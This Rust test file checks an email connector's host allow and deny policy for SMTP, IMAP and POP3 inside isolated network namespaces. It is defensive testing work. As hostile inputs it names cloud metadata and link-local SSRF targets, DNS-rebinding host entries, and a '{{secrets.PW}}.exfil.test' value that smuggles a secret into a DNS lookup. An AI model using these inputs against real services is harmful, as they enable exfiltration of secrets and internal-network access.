//! The operator's host policy (`EMAIL_ALLOWED_HOSTS`, `EMAIL_DENIED_HOSTS`,
//! `EMAIL_ALLOW_INSECURE`) on every protocol, through the worker process.
//!
//! Refusals are checked against a listener that counts connections: a refused host must be
//! refused before anything connects. Link-local and metadata hosts are only ever named inside
//! a private network namespace with nothing but loopback, so a policy bug cannot send a packet
//! off this machine.

use crate::support;

use std::io::Write;
use std::process::{Command, Stdio};
use std::sync::atomic::Ordering;
use std::time::Duration;

use serde_json::{Value, json};
use support::gateway::{Outcome, TestGateway};
use support::{WorkerProcess, counting_listener, testbed, unique};

const PROTOCOLS: [&str; 3] = ["smtp", "imap", "pop3"];

/// The worker with an operator's environment, serving every protocol.
struct Worker {
    gateway: TestGateway,
    _process: WorkerProcess,
}

impl Worker {
    async fn start(env: &[(&str, &str)]) -> Worker {
        testbed();
        let gateway = TestGateway::start().await;
        let process = WorkerProcess::start(&gateway.url(), env);
        Worker {
            gateway,
            _process: process,
        }
    }

    async fn run(&self, protocol: &str, vars: Value) -> Result<(), (i32, String)> {
        let operation = if protocol == "smtp" { "send" } else { "list" };
        let key = self.gateway.create_job(
            &format!("email:{protocol}:{operation}:1"),
            vars,
            json!({ "resultVariable": "r", "retryBackoff": "PT1S" }),
            3,
        );
        match self
            .gateway
            .wait_outcome(key, Duration::from_secs(30))
            .await
        {
            Outcome::Completed { .. } => Ok(()),
            Outcome::Failed {
                retries, message, ..
            } => Err((retries, message)),
            other => panic!("{protocol}: unexpected {other:?}"),
        }
    }
}

/// Variables for each protocol's cheapest operation, as user net2, over implicit TLS to the
/// testbed on `host`, or to `port` when given (a counting listener).
fn vars(protocol: &str, host: &str, port: Option<u16>) -> Value {
    let tb = testbed();
    let port = port.unwrap_or_else(|| {
        tb.port(match protocol {
            "smtp" => "PORT_SUBMISSIONS",
            "imap" => "PORT_IMAPS",
            _ => "PORT_POP3S",
        })
    });
    let mut v = json!({
        "authentication": { "type": "simple", "username": "net2@example.test", "password": "net2-pw" },
        "server": { "host": host, "port": port, "security": "tls", "serverCertificate": tb.ca_pem(), "timeoutSeconds": 10 },
        "maxToBeRead": 1
    });
    if protocol == "smtp" {
        v = json!({
            "authentication": v["authentication"], "server": v["server"],
            "from": "net2@example.test", "to": "policy@discard.test", "subject": unique("policy"), "body": "x"
        });
    }
    v
}

async fn accepted(worker: &Worker, host: &str) {
    for protocol in PROTOCOLS {
        let result = worker.run(protocol, vars(protocol, host, None)).await;
        assert_eq!(result, Ok(()), "{protocol} to {host} must be allowed");
    }
}

/// Refused on every protocol with INVALID_INPUT naming `pointer` (and `also`), with nothing
/// connected.
async fn refused(
    worker: &Worker,
    host: &str,
    edit: impl Fn(&mut Value),
    pointer: &str,
    also: &str,
) {
    let (port, connections, listener) = counting_listener().await;
    for protocol in PROTOCOLS {
        let mut v = vars(protocol, host, Some(port));
        edit(&mut v);
        let (retries, message) = worker
            .run(protocol, v)
            .await
            .expect_err(&format!("{protocol} to {host} must be refused"));
        assert_eq!(retries, 0, "{message}");
        assert!(message.starts_with("INVALID_INPUT: "), "{message}");
        assert!(message.contains(pointer), "{message}");
        assert!(message.contains(also), "{message}");
    }
    assert_eq!(
        connections.load(Ordering::SeqCst),
        0,
        "{host}: connected although refused"
    );
    listener.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cidrs_allow_addresses_and_names_that_resolve_into_them() {
    let worker = Worker::start(&[("EMAIL_ALLOWED_HOSTS", "127.0.0.0/8,::1/128")]).await;
    accepted(&worker, "127.0.0.1").await;
    // A name no name entry matches is not looked up unless the operator allows names by
    // address.
    refused(
        &worker,
        "localhost",
        |_| {},
        "/server/host",
        "EMAIL_ALLOW_NAMES_BY_ADDRESS",
    )
    .await;
    let worker = Worker::start(&[
        ("EMAIL_ALLOWED_HOSTS", "127.0.0.0/8,::1/128"),
        ("EMAIL_ALLOW_NAMES_BY_ADDRESS", "true"),
    ])
    .await;
    accepted(&worker, "localhost").await;
    let worker = Worker::start(&[
        ("EMAIL_ALLOWED_HOSTS", "10.0.0.0/8"),
        ("EMAIL_ALLOW_NAMES_BY_ADDRESS", "true"),
    ])
    .await;
    refused(
        &worker,
        "127.0.0.1",
        |_| {},
        "/server/host",
        "EMAIL_ALLOWED_HOSTS",
    )
    .await;
    refused(
        &worker,
        "localhost",
        |_| {},
        "/server/host",
        "resolves to 127.0.0.1",
    )
    .await;
    refused(
        &worker,
        "::ffff:127.0.0.1",
        |_| {},
        "/server/host",
        "EMAIL_ALLOWED_HOSTS",
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_allow_names_and_denied_addresses_win_over_an_allowed_name() {
    let worker = Worker::start(&[("EMAIL_ALLOWED_HOSTS", "LOCALHOST.")]).await;
    accepted(&worker, "localhost").await;
    accepted(&worker, "LOCALHOST").await;
    refused(
        &worker,
        "127.0.0.1",
        |_| {},
        "/server/host",
        "EMAIL_ALLOWED_HOSTS",
    )
    .await;

    let worker = Worker::start(&[
        ("EMAIL_ALLOWED_HOSTS", "localhost,*.example.test"),
        ("EMAIL_DENIED_HOSTS", "127.0.0.0/8,::1"),
    ])
    .await;
    refused(
        &worker,
        "localhost",
        |_| {},
        "/server/host",
        "EMAIL_DENIED_HOSTS",
    )
    .await;
    refused(
        &worker,
        "127.0.0.2",
        |_| {},
        "/server/host",
        "EMAIL_DENIED_HOSTS",
    )
    .await;

    let worker = Worker::start(&[("EMAIL_DENIED_HOSTS", "localhost")]).await;
    refused(
        &worker,
        "LocalHost.",
        |_| {},
        "/server/host",
        "EMAIL_DENIED_HOSTS",
    )
    .await;
    accepted(&worker, "127.0.0.1").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_insecure_false_refuses_clear_text_and_unverified_certificates() {
    let worker = Worker::start(&[("EMAIL_ALLOW_INSECURE", "false")]).await;
    accepted(&worker, "127.0.0.1").await;
    refused(
        &worker,
        "127.0.0.1",
        |v| v["server"]["security"] = json!("none"),
        "/server/security",
        "EMAIL_ALLOW_INSECURE",
    )
    .await;
    refused(
        &worker,
        "127.0.0.1",
        |v| v["server"]["acceptInvalidCertificates"] = json!(true),
        "/server/acceptInvalidCertificates",
        "EMAIL_ALLOW_INSECURE",
    )
    .await;
}

/// Issue 21: a refusal echoed the host lower-cased, and the mask matched the secret's exact
/// case only, so a host kept in a secret came back in the incident. It is echoed as typed
/// and masked in any case.
#[test]
fn a_host_kept_in_a_secret_never_comes_back_in_a_refusal() {
    if !namespaces_work() {
        return;
    }
    let secret = "Secret-Host.Example.ORG";
    for (allowed, setting) in [
        ("*.allowed.test", "EMAIL_ALLOWED_HOSTS"),
        ("*.allowed.test,10.0.0.0/8", "EMAIL_ALLOW_NAMES_BY_ADDRESS"),
    ] {
        for protocol in PROTOCOLS {
            let operation = if protocol == "smtp" {
                "smtp:send".to_string()
            } else {
                format!("{protocol}:list")
            };
            let mut v = vars(protocol, "{{secrets.HOST}}", Some(993));
            v["server"]["serverCertificate"] = Value::Null;
            let (ok, stderr) = invoke_isolated(
                &operation,
                &v,
                &[
                    ("EMAIL_ALLOWED_HOSTS", allowed),
                    ("EMAIL_SECRET_HOST", secret),
                ],
            );
            assert!(!ok, "{stderr}");
            assert!(stderr.starts_with("INVALID_INPUT: "), "{stderr}");
            assert!(stderr.contains(setting), "{stderr}");
            assert!(
                !stderr.to_lowercase().contains("secret-host"),
                "{protocol}: the secret came back: {stderr}"
            );
        }
    }
    // A token URL kept in a secret: its non-ASCII host comes back as the URL parser writes it
    // (IDNA, `xn--bcher-secret-…`), and is masked in that form.
    let mut v = vars("imap", "127.0.0.1", Some(993));
    v["server"]["serverCertificate"] = Value::Null;
    v["authentication"] = json!({ "type": "oauth2", "username": "u@example.test",
        "tokenEndpoint": "{{secrets.URL}}", "clientId": "c" });
    let (ok, stderr) = invoke_isolated(
        "imap:list",
        &v,
        &[
            ("EMAIL_ALLOWED_HOSTS", "127.0.0.1,*.allowed.test"),
            ("EMAIL_SECRET_URL", "https://Bücher-Secret.example/token"),
        ],
    );
    assert!(!ok, "{stderr}");
    assert!(
        stderr.starts_with("INVALID_INPUT: ") && stderr.contains("/authentication/tokenEndpoint"),
        "{stderr}"
    );
    assert!(
        !stderr.to_lowercase().contains("bcher-secret") && !stderr.contains("Bücher"),
        "the secret came back: {stderr}"
    );
}

/// Runs `email-connector invoke` inside a new network namespace with only loopback up.
fn invoke_isolated(operation: &str, vars: &Value, env: &[(&str, &str)]) -> (bool, String) {
    invoke_isolated_with_hosts(operation, vars, env, None)
}

/// The same, with `hosts` (a file) mounted over /etc/hosts in a private mount namespace, so a
/// name can resolve to any address without a DNS server.
fn invoke_isolated_with_hosts(
    operation: &str,
    vars: &Value,
    env: &[(&str, &str)],
    hosts: Option<&str>,
) -> (bool, String) {
    let output = match hosts {
        None => invoke_unshared(
            &["-n"],
            "ip link set lo up && exec \"$@\"",
            operation,
            vars,
            env,
        ),
        Some(file) => invoke_unshared(
            &["-n", "-m"],
            &format!("ip link set lo up && mount --bind {file} /etc/hosts && exec \"$@\""),
            operation,
            vars,
            env,
        ),
    };
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stderr).to_string(),
    )
}

/// Runs `email-connector invoke` under `unshare` with `flags`, inside `setup`: a shell script
/// that runs the invoke command as `"$@"`.
fn invoke_unshared(
    flags: &[&str],
    setup: &str,
    operation: &str,
    vars: &Value,
    env: &[(&str, &str)],
) -> std::process::Output {
    let mut command = Command::new("unshare");
    command
        .args(flags)
        .args(["sh", "-c", setup, "sh"])
        .arg(env!("CARGO_BIN_EXE_email-connector"))
        .args(["invoke", operation, "-"])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("RUST_LOG", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, v) in env {
        command.env(k, v);
    }
    let mut child = command.spawn().expect("run unshare");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(vars.to_string().as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

/// Fails (never skips) under CI=true when no private network namespace can be made.
fn namespaces_work() -> bool {
    let works = Command::new("unshare")
        .args(["-n", "sh", "-c", "ip link set lo up"])
        .status()
        .is_ok_and(|s| s.success());
    if !works {
        assert_ne!(
            std::env::var("CI").as_deref(),
            Ok("true"),
            "`unshare -n` with `ip link set lo up` must work in CI for the link-local tests"
        );
        eprintln!("SKIPPED: no private network namespace (unshare -n) on this machine");
    }
    works
}

#[test]
fn link_local_and_metadata_hosts_are_refused_by_default() {
    if !namespaces_work() {
        return;
    }
    let hosts = [
        "169.254.169.254",
        "::ffff:169.254.169.254",
        "[fe80::1]",
        "fe80::a:b",
        "metadata.google.internal",
        "METADATA.google.internal.",
    ];
    for protocol in PROTOCOLS {
        let operation = if protocol == "smtp" {
            "smtp:send"
        } else {
            &format!("{protocol}:list")
        };
        for host in hosts {
            let mut v = vars(protocol, host, Some(993));
            v["server"]["serverCertificate"] = Value::Null;
            let (ok, stderr) = invoke_isolated(operation, &v, &[]);
            assert!(!ok, "{protocol} {host}: {stderr}");
            assert!(
                stderr.starts_with("INVALID_INPUT: "),
                "{protocol} {host}: {stderr}"
            );
            assert!(
                stderr.contains("/server/host"),
                "{protocol} {host}: {stderr}"
            );
            assert!(
                stderr.contains("EMAIL_DENIED_HOSTS"),
                "{protocol} {host}: {stderr}"
            );
        }
    }
}

#[test]
fn an_operator_can_clear_the_denied_list() {
    if !namespaces_work() {
        return;
    }
    let mut v = vars("imap", "169.254.169.254", Some(993));
    v["server"]["timeoutSeconds"] = json!(2);
    // Without a route off the namespace, a connection that is attempted fails at once: the
    // proof that the refusal above came from the policy and that clearing it works.
    let (ok, stderr) = invoke_isolated("imap:list", &v, &[("EMAIL_DENIED_HOSTS", "")]);
    assert!(!ok);
    assert!(
        stderr.starts_with("CONNECTION_FAILED: ") || stderr.starts_with("TIMEOUT: "),
        "{stderr}"
    );
}

#[test]
fn a_name_that_resolves_into_a_denied_network_is_refused() {
    if !namespaces_work() {
        return;
    }
    let hosts = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(unique("hosts"));
    std::fs::write(
        &hosts,
        "127.0.0.1 localhost\n169.254.169.254 rebound.example.test\n\
         127.0.0.1 twofaced.example.test\n169.254.169.254 twofaced.example.test\n",
    )
    .unwrap();
    let hosts = hosts.to_str().unwrap();
    for protocol in PROTOCOLS {
        let operation = if protocol == "smtp" {
            "smtp:send".to_string()
        } else {
            format!("{protocol}:list")
        };
        for host in ["rebound.example.test", "twofaced.example.test"] {
            let mut v = vars(protocol, host, Some(993));
            v["server"]["timeoutSeconds"] = json!(2);
            let (ok, stderr) = invoke_isolated_with_hosts(&operation, &v, &[], Some(hosts));
            assert!(!ok, "{protocol} {host}: {stderr}");
            assert!(
                stderr.starts_with("INVALID_INPUT: "),
                "{protocol} {host}: {stderr}"
            );
            assert!(
                stderr.contains("resolves to 169.254.169.254") && stderr.contains("/server/host"),
                "{protocol} {host}: {stderr}"
            );
        }
    }
    // The control: the same name with the list cleared gets as far as connecting.
    let v = vars("imap", "rebound.example.test", Some(993));
    let (ok, stderr) =
        invoke_isolated_with_hosts("imap:list", &v, &[("EMAIL_DENIED_HOSTS", "")], Some(hosts));
    let _ = std::fs::remove_file(hosts);
    assert!(!ok);
    assert!(
        stderr.starts_with("CONNECTION_FAILED: ") || stderr.starts_with("TIMEOUT: "),
        "{stderr}"
    );
}

/// The file the DNS listener of [`dns_listener`] records query names in, when it runs as the
/// resolver of a private namespace.
const DNS_LOG: &str = "EMAIL_CONNECTOR_TEST_DNS_LOG";

/// Answers every DNS query on `socket` with NXDOMAIN (so a resolver gives up at once) and
/// returns the name it asked for.
fn answer_one_query(socket: &std::net::UdpSocket) -> Option<String> {
    let mut packet = [0u8; 512];
    let (len, peer) = socket.recv_from(&mut packet).ok()?;
    let query = &packet[..len];
    let mut labels = Vec::new();
    let mut at = 12;
    while let Some(&size) = query.get(at) {
        if size == 0 {
            break;
        }
        let label = query.get(at + 1..at + 1 + usize::from(size))?;
        labels.push(String::from_utf8_lossy(label).to_string());
        at += 1 + usize::from(size);
    }
    let mut reply = query.to_vec();
    if reply.len() >= 4 {
        reply[2] |= 0x80;
        reply[3] = (reply[3] & 0xf0) | 0x03;
        let _ = socket.send_to(&reply, peer);
    }
    Some(labels.join("."))
}

/// A DNS server for the namespace tests below: run by [`invoke_with_own_dns`] from this test
/// binary inside the namespace (with `EMAIL_CONNECTOR_TEST_DNS_LOG` set) on 127.0.0.1:53, it
/// records every name it is asked for. Run as a plain test, it checks itself on a free port.
#[test]
fn dns_listener() {
    if let Ok(log) = std::env::var(DNS_LOG) {
        let socket = std::net::UdpSocket::bind("127.0.0.1:53").expect("bind 127.0.0.1:53");
        std::fs::write(&log, "").expect("the DNS log");
        loop {
            if let Some(name) = answer_one_query(&socket) {
                let mut file = std::fs::OpenOptions::new()
                    .append(true)
                    .open(&log)
                    .expect("the DNS log");
                writeln!(file, "{name}").expect("write the DNS log");
            }
        }
    }
    let server = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let address = server.local_addr().unwrap();
    let client = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    // A query for mail.example.test, type A, as a resolver sends it.
    let mut query = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["mail", "example", "test"] {
        query.push(label.len() as u8);
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    client.send_to(&query, address).unwrap();
    assert_eq!(
        answer_one_query(&server).as_deref(),
        Some("mail.example.test")
    );
    let mut reply = [0u8; 512];
    let (len, _) = client.recv_from(&mut reply).unwrap();
    assert_eq!(&reply[..2], &[0x12, 0x34]);
    assert_eq!(reply[2] & 0x80, 0x80, "a response");
    assert_eq!(reply[3] & 0x0f, 3, "NXDOMAIN");
    assert_eq!(len, query.len());
}

/// Runs `email-connector invoke` in a new network and mount namespace whose only resolver is
/// the [`dns_listener`] on 127.0.0.1:53; returns whether it succeeded, its stderr, and every
/// name the resolver was asked for.
fn invoke_with_own_dns(
    operation: &str,
    vars: &Value,
    env: &[(&str, &str)],
) -> (bool, String, Vec<String>) {
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(unique("dns"));
    std::fs::create_dir_all(&dir).unwrap();
    let resolv = dir.join("resolv.conf");
    std::fs::write(
        &resolv,
        "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
    )
    .unwrap();
    let log = dir.join("queries");
    let listener = std::env::current_exe().unwrap();
    // The listener is a test of this binary, named by its path without the crate's name.
    let test = concat!(module_path!(), "::dns_listener");
    let test = test.split_once("::").map_or(test, |(_, path)| path);
    let script = format!(
        "ip link set lo up && mount --bind {resolv} /etc/resolv.conf || exit 99\n\
         {DNS_LOG}={log} {listener} --exact {test} --test-threads 1 >/dev/null 2>&1 &\n\
         listener=$!\n\
         tries=0; while [ ! -e {log} ] && [ $tries -lt 200 ]; do sleep 0.05; tries=$((tries+1)); done\n\
         \"$@\"; status=$?\n\
         kill $listener; exit $status",
        resolv = resolv.display(),
        log = log.display(),
        listener = listener.display(),
    );
    let output = invoke_unshared(&["-n", "-m"], &script, operation, vars, env);
    assert_ne!(
        output.status.code(),
        Some(99),
        "the namespace was not set up"
    );
    let queries = std::fs::read_to_string(&log)
        .expect("the DNS listener started")
        .lines()
        .map(str::to_string)
        .collect();
    let _ = std::fs::remove_dir_all(&dir);
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stderr).to_string(),
        queries,
    )
}

/// Issue 21: with any CIDR in `EMAIL_ALLOWED_HOSTS`, a name was looked up before it was
/// checked, and `server.host: "{{secrets.PW}}.exfil.test"` sent the password to the DNS
/// server. A name no name entry allows is refused by its name, and a secret inside a host name
/// is refused whatever the policy, both before any lookup; the refusal never shows the secret.
/// The controls prove the resolver would have seen a lookup.
#[test]
fn names_that_cannot_be_allowed_by_name_and_secrets_in_hosts_are_never_looked_up() {
    if !namespaces_work() {
        return;
    }
    let secret = "Hunter2-Dns";
    let strict = [
        ("EMAIL_ALLOWED_HOSTS", "10.0.0.0/8,*.example.com"),
        ("EMAIL_SECRET_PW", secret),
    ];
    let open = [("EMAIL_ALLOWED_HOSTS", "*"), ("EMAIL_SECRET_PW", secret)];
    let refused = |operation: &str, v: &Value, env: &[(&str, &str)], pointer: &str| {
        let (ok, stderr, queries) = invoke_with_own_dns(operation, v, env);
        assert!(!ok, "{operation}: {stderr}");
        assert!(
            stderr.starts_with("INVALID_INPUT: "),
            "{operation}: {stderr}"
        );
        assert!(stderr.contains(pointer), "{operation}: {stderr}");
        assert!(
            !stderr.to_lowercase().contains(&secret.to_lowercase()),
            "{operation}: the secret came back: {stderr}"
        );
        assert_eq!(queries, Vec::<String>::new(), "{operation}: looked up");
    };
    for protocol in PROTOCOLS {
        let operation = if protocol == "smtp" {
            "smtp:send".to_string()
        } else {
            format!("{protocol}:list")
        };
        let mut v = vars(protocol, "{{secrets.PW}}.exfil.test", Some(993));
        v["server"]["serverCertificate"] = Value::Null;
        v["server"]["timeoutSeconds"] = json!(3);
        refused(&operation, &v, &strict, "/server/host");
        refused(&operation, &v, &open, "/server/host");
        v["server"]["host"] = json!("plain.exfil.test");
        refused(&operation, &v, &strict, "/server/host");
    }
    let mut v = vars("imap", "127.0.0.1", Some(993));
    v["server"]["serverCertificate"] = Value::Null;
    v["authentication"] = json!({ "type": "oauth2", "username": "u@example.test",
        "tokenEndpoint": "https://{{secrets.PW}}.exfil.test/token", "clientId": "c" });
    refused("imap:list", &v, &open, "/authentication/tokenEndpoint");

    // The controls: a name the policy allows by name is looked up, and so is any name once
    // the operator allows names by address.
    let mut v = vars("imap", "control.exfil.test", Some(993));
    v["server"]["timeoutSeconds"] = json!(3);
    let (ok, stderr, queries) = invoke_with_own_dns("imap:list", &v, &open);
    assert!(!ok && stderr.starts_with("CONNECTION_FAILED: "), "{stderr}");
    assert!(
        queries.iter().any(|q| q == "control.exfil.test"),
        "{queries:?}"
    );
    v["server"]["host"] = json!("opted-in.exfil.test");
    let (ok, stderr, queries) = invoke_with_own_dns(
        "imap:list",
        &v,
        &[
            ("EMAIL_ALLOWED_HOSTS", "10.0.0.0/8"),
            ("EMAIL_ALLOW_NAMES_BY_ADDRESS", "true"),
        ],
    );
    assert!(!ok && stderr.starts_with("CONNECTION_FAILED: "), "{stderr}");
    assert!(
        queries.iter().any(|q| q == "opted-in.exfil.test"),
        "{queries:?}"
    );
}
